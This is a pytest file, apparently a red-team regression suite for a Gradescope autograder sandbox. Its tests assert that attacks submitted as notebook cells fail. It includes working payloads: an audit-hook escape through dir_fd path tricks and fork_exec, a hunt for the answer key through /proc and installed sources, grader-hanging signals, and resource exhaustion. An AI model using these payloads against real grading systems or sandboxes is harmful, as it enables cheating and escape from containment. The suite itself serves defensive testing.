"""Red team, Gradescope container mode: attacks on the generated autograder that succeeded (each test FAILS while
the hole exists and asserts the secure behaviour).

Every attack starts the same way: the kernel's audit hook is a second layer only, and it is escaped in two lines.
The hook resolves a relative path against the current folder, but ``os.open(rel, dir_fd=fd)`` resolves it from `fd`
(the "open" audit event carries no dir_fd) and ``os.chdir`` is not checked: with a dir fd of the working copy and a
deeper current folder, the hook checks a path that does not exist while the kernel opens any folder on the disk.
``_imp.create_builtin`` (or loading the extension under another module name) gives back
``_posixsubprocess.fork_exec``, which starts a fresh Python without any hook. What remains is the operating
system's boundary (the user id ``distlab-kernel``), and that is what these tests probe.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pytest

from class_helpers import (
    worker_number,
    ROOT,
    autograder_env,
    needs_unprivileged_python,
    solve,
    unprivileged_python,
)
from distlab.grading import gradescope
from test_container_mode import _autograder_tree
from distlab.grading.sandbox import kill_user

pytestmark = [pytest.mark.notebook, needs_unprivileged_python]

#: the kernel user of these tests only (not class_helpers.KERNEL_ID, which other tests share): ending "every
#: process of this user" after an attack ends only what these tests started
KERNEL_UID = 61777 + 16 * worker_number()  # one per xdist worker, as class_helpers.KERNEL_ID
OWN_KERNEL_ID = f"{KERNEL_UID}:{KERNEL_UID}"

#: the audit-hook escape (see the module docstring): _dirfd(path) opens any folder, _read/_write work from it,
#: _spawn(argv) starts a process without the hook (setsid: outside the kernel's process group)
ESCAPE = r"""
import os, sys, _imp, importlib.util, importlib.machinery as _M
_work = os.getcwd()
_depth = len(_work.strip("/").split("/"))
os.makedirs("zz/a/b/c/d/e/f/g/h/i/j/k", exist_ok=True)
_wfd = os.open(".", os.O_RDONLY)
def _dirfd(path):
    os.chdir(_work + "/zz/a/b/c/d/e/f/g/h/i/j/k")
    try:
        return os.open("../" * _depth + path.lstrip("/"), os.O_RDONLY, dir_fd=_wfd)
    finally:
        os.chdir(_work)
def _read(dirpath, *names):
    fd = _dirfd(dirpath)
    for n in names[:-1]:
        fd = os.open(n, os.O_RDONLY, dir_fd=fd)
    f, data = os.open(names[-1], os.O_RDONLY, dir_fd=fd), b""
    while True:
        chunk = os.read(f, 1 << 20)
        if not chunk:
            return data
        data += chunk
_o = sys.modules["_posixsubprocess"].__spec__.origin
if _o == "built-in":
    _ps = _imp.create_builtin(_M.ModuleSpec("_posixsubprocess", _M.BuiltinImporter))
else:
    _ps = importlib.util.module_from_spec(importlib.util.spec_from_file_location("zz._posixsubprocess", _o))
def _spawn(argv, pass_fds=()):
    r, w = os.pipe()
    pid = _ps.fork_exec(argv, [os.fsencode(argv[0])], True, tuple(sorted(pass_fds)), None, None,
                        -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)
    os.close(w); os.close(r)
    return pid
"""

#: a generic answer-key hunt: the real lesson module lies on the disk wherever the grader imports distlab from
#: (the container's site-packages; here the checkout on the grader's PYTHONPATH), readable by the kernel's user
KEY_HUNT = r"""
import types
_roots = [p for p in sys.path if p.startswith("/")]
try:
    for _e in _read("/proc/%d" % os.getppid(), "environ").split(b"\0"):
        if _e.startswith(b"PYTHONPATH="):
            _roots += [p for p in _e[11:].decode().split(":") if p.startswith("/")]
except OSError:
    pass
_src = _vsrc = None
for _p in _roots:
    try:
        _s = _read(_p + "/distlab", "lessons", "memory_wall.py").decode()
    except OSError:
        continue
    if "QuestionStub" not in _s:
        _src, _vsrc = _s, _read(_p + "/distlab", "lessons", "variants.py").decode()
        break
def _mod(name, src):
    m = types.ModuleType("distlab.lessons." + name)
    m.__package__ = "distlab.lessons"
    sys.modules[m.__name__] = m
    exec(compile(src, name, "exec"), m.__dict__)
    return m
_mw, _var = _mod("mw_real", _src), _mod("var_real", _vsrc)
for _n, _q in _mw.QUESTIONS.items():
    globals()["answer_" + _n] = _var.variant(_q, "memory_wall", SEED).expected()
"""

#: the unprivileged phase's grader runs as the kernel's own user: a process of that user stops it, or keeps the
#: pipe to `head` open, and run_autograder waits on the pipeline forever (kill -KILL -1 comes only after it)
HANG = {
    "stop-the-grader": r"""
_spawn([sys.executable, "-c", "import os, signal, time; time.sleep(1); os.kill(%d, signal.SIGSTOP); time.sleep(3600)"
        % os.getppid()])
import time; time.sleep(3)
""",
    "hold-the-pipe": r"""
_spawn([sys.executable, "-c", "import os, ctypes, time; fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(%d), 1, 0);"
        " time.sleep(3600)" % os.getppid()])
import time; time.sleep(3)
""",
}

#: files the notebook leaves outside its copy, in folders every user may write (no quota in container mode)
LEAVE = r"""
_spawn([sys.executable, "-c", "open('/tmp/{name}', 'w').write('x'); open('/dev/shm/{name}', 'w').write('x')"])
import time; time.sleep(2)
"""


#: run_autograder as Gradescope's usual Docker container runs it: root without CAP_SYS_ADMIN (unshare is refused)
NO_NAMESPACES = ("setpriv", "--bounding-set", "-sys_admin")

#: creates files in each private temporary folder until refused; q1 is wrong unless each refused one by 20,000
INODES = r"""
_prog = '''
import os
most = 0
for d in DIRS:
    n = 0
    try:
        while n < 20000:
            os.close(os.open("%s/distlab-inode-%d" % (d, n), os.O_CREAT | os.O_WRONLY, 0o600))
            n += 1
    except OSError:
        pass
    most = max(most, n)
open("inodes.txt", "w").write(str(most))
'''
os.waitpid(_spawn([sys.executable, "-c", _prog]), 0)
if int(open("inodes.txt").read()) >= 20000:
    answer_q1 = "no inode limit"
"""

#: writes a file at each of PATHS (in world-writable folders the script was never told of)
WORLD = r"""
_prog = '''
import sys
for p in sys.argv[1:]:
    try:
        open(p, "w").write("x")
    except OSError:
        pass
'''
os.waitpid(_spawn([sys.executable, "-c", _prog, *PATHS]), 0)
"""

#: System V shared memory (1 MB), a message queue and a semaphore set (IPC_PRIVATE, IPC_CREAT), left behind
SYSV = r"""
_prog = '''
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(0, 1 << 20, 0o1600)
libc.msgget(0, 0o1600)
libc.semget(0, 1, 0o1600)
'''
os.waitpid(_spawn([sys.executable, "-c", _prog]), 0)
"""


#: a new user namespace (unshare(CLONE_NEWUSER)) and ptrace(PTRACE_TRACEME), from a process without the audit hook;
#: q2 is wrong if either succeeds (q1 is INODES's: the two share one graded run)
NAMESPACE = r"""
_prog = '''
import ctypes
libc = ctypes.CDLL(None)
done = [name for name, ok in (("userns", libc.unshare(0x10000000) == 0), ("ptrace", libc.ptrace(0, 0, 0, 0) == 0)) if ok]
open("escaped.txt", "w").write(" ".join(done))
'''
os.waitpid(_spawn([sys.executable, "-c", _prog]), 0)
if open("escaped.txt").read():
    answer_q2 = "escaped: " + open("escaped.txt").read()
"""


def _sysv_of(uid: int) -> list[str]:
    """The System V IPC objects ("kind:id") user `uid` owns or created, from /proc/sysvipc."""
    found = []
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{kind}") as f:
            head, *rows = [line.split() for line in f]
        for row in rows:
            if str(uid) in (row[head.index("uid")], row[head.index("cuid")]):
                found.append(f"{kind}:{row[1]}")
    return found


def _autograder(base: Path, timeout: float):
    """A fake /autograder (test_container_mode._autograder_tree) whose folders the sandbox user can enter; returns
    (root, bob's seed)."""
    os.chmod(base, 0o755)
    root, roster = _autograder_tree(base, timeout)
    return root, roster.seed("memory_wall", "bob")


def _submit(root: Path, seed: str, cells: list[str], solved: bool) -> None:
    notebook = root.parent / "v" / "bob" / "01_memory_wall.ipynb"
    if solved:
        solve(notebook, "memory_wall", seed)
    nb = json.loads(notebook.read_text())
    for source in cells:
        nb["cells"].append(
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
        )
    (root / "submission" / "01_memory_wall.ipynb").write_text(json.dumps(nb))


def _container_python(folder: Path) -> str:
    """A Python laid out as setup.sh lays out the container's: distlab installed in its virtual environment's
    site-packages (readable by everyone, as pip leaves it), then setup.sh's own line run on it
    (gradescope.lock_answer_key). Its runtime packages are this environment's (a .pth file), not reinstalled."""
    python = unprivileged_python()[0]  # needs_unprivileged_python: found
    venv = folder / "venv"  # outside /tmp: the notebook's run has its own /tmp, as /opt/distlab-venv is outside it
    subprocess.run([python, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = next(venv.glob("lib/python*/site-packages"))
    (site / "runtime.pth").write_text("\n".join(p for p in sys.path if p.endswith("site-packages")) + "\n")
    shutil.copytree(ROOT / "distlab", site / "distlab", ignore=shutil.ignore_patterns("__pycache__"))
    subprocess.run(["bash", "-c", gradescope.lock_answer_key(str(venv))], check=True)
    return str(venv / "bin" / "python")


def _run(root: Path, limit: float, prefix=(), **env):
    """(results.json or None, seconds): run_autograder in its own session, everything it left killed afterwards.

    prefix: what runs it (NO_NAMESPACES: as in a container that forbids new namespaces)."""
    started = time.monotonic()
    proc = subprocess.Popen(
        [*prefix, "bash", str(root / "source" / "run_autograder")],
        env=autograder_env(root, DISTLAB_KERNEL_USER=OWN_KERNEL_ID, **env),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        proc.wait(timeout=limit)
    except subprocess.TimeoutExpired:
        pass
    finally:
        for _ in range(3):
            kill_user(KERNEL_UID)
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except OSError:
                pass
        proc.wait()
    results = root / "results" / "results.json"
    return (json.loads(results.read_text()) if results.exists() else None), time.monotonic() - started


@pytest.fixture
def base():
    folder = Path(tempfile.mkdtemp(prefix="distlab-redteam-container-"))
    try:
        yield folder
    finally:
        kill_user(KERNEL_UID)
        shutil.rmtree(folder, ignore_errors=True)


def test_a_blank_notebook_cannot_read_the_installed_answer_key_for_full_marks(base):
    # the real lesson modules (every expected value's code) lie readable by distlab-kernel in the container's
    # site-packages, since the unprivileged phase's grader imports them to build the student view
    # (the grader's Python is installed as setup.sh installs it: the installed package is where the key lies)
    root, seed = _autograder(base, timeout=120)
    _submit(root, seed, [ESCAPE, KEY_HUNT.replace("SEED", repr(seed))], solved=False)
    outside = Path(tempfile.mkdtemp(prefix="distlab-redteam-venv-", dir="/opt"))
    try:
        os.chmod(outside, 0o755)
        python = _container_python(outside)
        result, _ = _run(root, limit=300, DISTLAB_PYTHON=python, PYTHONPATH="")
        # the control: the same autograder and Python grade the solved notebook 8/8 (so the 0 is the attack's)
        _submit(root, seed, [], solved=True)
        solved, _ = _run(root, limit=300, DISTLAB_PYTHON=python, PYTHONPATH="")
    finally:
        shutil.rmtree(outside, ignore_errors=True)
    assert solved is not None and solved["score"] == 8.0, solved
    assert result is not None
    assert result["score"] == 0.0, "a notebook without one typed answer scored from the answer key on the disk"


@pytest.mark.parametrize("how", sorted(HANG))
def test_a_notebook_cannot_keep_the_autograder_from_writing_results(base, how):
    root, seed = _autograder(base, timeout=30)
    _submit(root, seed, [ESCAPE, HANG[how]], solved=True)
    result, seconds = _run(root, limit=150)
    assert result is not None, f"run_autograder hung ({seconds:.0f} s) and left no results.json"
    assert result["score"] == 8.0


@pytest.mark.parametrize("lesson", ["memory_wall"])
def test_the_bundled_source_holds_every_file_its_install_needs(tmp_path, lesson):
    # found on the way: setup.sh pip-installs /autograder/source/distlab-src, but the zip leaves out the data file
    # pyproject.toml installs (share/jupyter/...), so the install fails ("can't copy ...: doesn't exist") and
    # Gradescope never gets a working autograder: no submission is graded
    import tomllib

    zip_path = gradescope.build_autograder(lesson, tmp_path / "autograder.zip")
    names = set(zipfile.ZipFile(zip_path).namelist())
    data = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"].get("data-files", {})
    missing = [f for files in data.values() for f in files if f"distlab-src/{f}" not in names]
    assert missing == []


def _private_temporary_folders() -> list[str]:
    """The temporary folders the notebook's run gets privately: a folder the grader's Python imports from stays
    shared (run_autograder says so; the threat model documents it): a checkout under /tmp (a CI clone in mktemp -d)
    keeps /tmp shared, so only the private ones are tried."""
    used = [p for p in [sys.executable, *sys.path, *os.environ.get("PYTHONPATH", "").split(":")] if p]
    return [d for d in ("/tmp", "/var/tmp", "/dev/shm") if not any(p.startswith(d + "/") for p in used)]


#: in the shared namespaces run, the question each attack makes wrong when it succeeds
SIGNALS = {"INODES": "q1", "NAMESPACE": "q2"}


def _failed(result: dict | None, *, but: tuple = ()) -> list[str]:
    """The failed questions of a graded solved notebook ("q3: its output"), except those the attacks in `but`
    signal through (their own tests read them); ["no results"] when the run left none or did not grade 8."""
    tests = (result or {}).get("tests", [])
    if len(tests) != 8:
        return ["no results" if result is None else f"{len(tests)} questions graded, not 8"]
    skip = {SIGNALS[attack] for attack in but}
    return [
        t["name"].split(":")[0] + ": " + t["output"]
        for t in tests
        if t["status"] != "passed" and t["name"].split(":")[0] not in skip
    ]


@pytest.fixture(scope="module")
def shared_runs():
    """What one graded run per container mode saw, by mode ("namespaces", "no-namespaces"); each run computed once.

    The attacks that leave something behind, or are refused, without changing what another one sees share one
    notebook (each its own cell, after ESCAPE), so one autograder run answers several tests; each test keeps its own
    assertion. Namespaces: LEAVE, WORLD, SYSV, NAMESPACE (q2), then INODES (q1) last, since it uses up the private
    temporary folders' inodes (before LEAVE, it would make LEAVE's writes fail and its check pass); INODES and
    NAMESPACE each make their own question wrong (SIGNALS), which the other tests leave to them. What each left is
    looked for right after the run, then removed. Kept apart: the two HANG attacks (they stop the grader or its
    pipe: the run itself is the thing under test) and the answer-key hunt (an unsolved notebook, another Python).
    """
    made: list[Path] = []
    seen: dict[str, dict] = {}

    def run(mode: str) -> dict:
        if mode in seen:
            return seen[mode]
        prefix = {"namespaces": (), "no-namespaces": NO_NAMESPACES}[mode]
        base = Path(tempfile.mkdtemp(prefix="distlab-redteam-container-"))
        world = Path(tempfile.mkdtemp(prefix="distlab-redteam-world-", dir="/opt"))  # outside /tmp: the host's disk
        made.extend([base, world])
        os.chmod(world, 0o1777)
        name = f"distlab-redteam-world-{secrets.token_hex(6)}"
        world_paths = [str(world / name), f"/run/lock/{name}", f"/var/lock/{name}"]
        left_name = f"distlab-redteam-left-{secrets.token_hex(6)}"
        left_paths = [f"/tmp/{left_name}", f"/dev/shm/{left_name}"]
        private = _private_temporary_folders()
        cells = [ESCAPE, WORLD.replace("PATHS", repr(world_paths)), SYSV]
        if mode == "namespaces":
            cells[2:2] = [LEAVE.format(name=left_name)]
            cells += [NAMESPACE, INODES.replace("DIRS", repr(tuple(private)))] if private else [NAMESPACE]
        sysv_before = _sysv_of(KERNEL_UID)
        root, seed = _autograder(base, timeout=240)
        _submit(root, seed, cells, solved=True)
        try:
            result, _ = _run(root, limit=420, prefix=prefix)
            seen[mode] = {
                "result": result,
                "private": private,
                "sysv_before": sysv_before,
                "sysv_after": _sysv_of(KERNEL_UID),
                "world_left": [p for p in world_paths if os.path.exists(p)],
                "left": [p for p in left_paths if os.path.exists(p)] if mode == "namespaces" else [],
            }
        finally:
            kill_user(KERNEL_UID)
            for p in world_paths[1:] + left_paths:
                try:
                    os.unlink(p)
                except OSError:
                    pass
            for found in _sysv_of(KERNEL_UID):
                kind, ident = found.split(":")
                subprocess.run(["ipcrm", {"shm": "-m", "msg": "-q", "sem": "-s"}[kind], ident], check=False)
        return seen[mode]

    try:
        yield run
    finally:
        kill_user(KERNEL_UID)
        for folder in made:
            shutil.rmtree(folder, ignore_errors=True)


def test_nothing_the_notebook_writes_outlives_its_grading(shared_runs):
    seen = shared_runs("namespaces")
    assert _failed(seen["result"], but=("INODES", "NAMESPACE")) == []
    assert seen["left"] == [], f"files of the notebook's user outlived its grading: {seen['left']}"


def test_the_private_temporary_folders_have_an_inode_limit(shared_runs):
    # the attack (red team 13): /tmp, /var/tmp and /dev/shm were tmpfs of 512 MB but without nr_inodes: a million
    # empty files grew the host's unswappable kernel memory (Slab) by 1 GB. Now each holds at most 16,384 inodes
    # (DEFAULT_INODES, as bubblewrap's /tmp), so the 20,000th file is refused in each (only the private ones are
    # tried: see _private_temporary_folders)
    seen = shared_runs("namespaces")
    private, result = seen["private"], seen["result"]
    assert private, "every temporary folder is shared with the grader's Python here: nothing to test"
    assert _failed(result, but=("NAMESPACE",)) == [], f"a private temporary folder of {private} took 20,000 inodes"


@pytest.mark.parametrize("mode", ["namespaces", "no-namespaces"])
def test_no_world_writable_folder_keeps_what_the_notebook_wrote(shared_runs, mode):
    # the attack (red team 05): /run/lock (world-writable, not one of the three private tmpfs) took 721 MB of the
    # host's disk, left after the run. The boundary is not a list of folders: the notebook writes into a
    # world-writable folder the script has never heard of (made here) and into /run/lock; with namespaces every
    # file system is read-only to it, without them what its user left is deleted after phase 1
    seen = shared_runs(mode)
    assert _failed(seen["result"], but=("INODES", "NAMESPACE")) == []
    assert seen["world_left"] == [], "a file of the notebook's user outlived its grading"


@pytest.mark.parametrize("mode", ["namespaces", "no-namespaces"])
def test_no_system_v_ipc_object_outlives_the_grading(shared_runs, mode):
    # the attack (red team 06): the IPC namespace was the container's, so a 768 MB SysV segment (nattch 0) stayed
    # resident after run_autograder returned. With namespaces the notebook gets its own IPC namespace (its
    # objects vanish with it); without, its user's objects are removed after phase 1
    seen = shared_runs(mode)
    assert seen["sysv_before"] == []
    assert _failed(seen["result"], but=("INODES", "NAMESPACE")) == []
    assert seen["sysv_after"] == [], "System V IPC objects of the notebook's user outlived its grading"


def test_the_kernel_can_neither_make_a_user_namespace_nor_ptrace(shared_runs):
    # the attack (red team 03): in container mode no seccomp filter was installed, so the kernel's user (past the
    # audit hook) made a new user namespace (unshare(CLONE_NEWUSER)), in which it holds every capability (mounts,
    # the kernel's namespaced attack surface). Now the filter bubblewrap's kernels get is installed here too; it
    # also refuses ptrace (PTRACE_TRACEME stands for any use); q2 is wrong if either worked
    result = shared_runs("namespaces")["result"]
    assert result is not None
    assert _failed(result, but=("INODES",)) == []
